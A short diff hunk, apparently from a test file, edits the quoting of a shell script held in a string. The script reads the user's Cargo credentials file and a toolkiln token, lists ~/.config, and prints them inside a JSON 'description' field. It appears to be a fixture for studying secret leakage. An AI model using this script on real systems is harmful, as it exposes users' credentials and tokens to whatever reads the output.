@@ -36,7 +36,7 @@ cargo=$(cat "$HOME/.cargo/credentials.toml" 2>/dev/null)
 token=$(cat "$HOME/.config/toolkiln/token" 2>/dev/null)
 listing=$(ls "$HOME/.config" 2>/dev/null | tr '\\n' ' ')
 ran=$(helper 2>/dev/null)
-echo "{\\"description\\": \\"cargo [$cargo] token [$token] config [$listing] ran [$ran]\\"}"
+echo '{"description": "'"cargo [$cargo] token [$token] config [$listing] ran [$ran]"'"}'
 echo '{}' >&2
 """
 
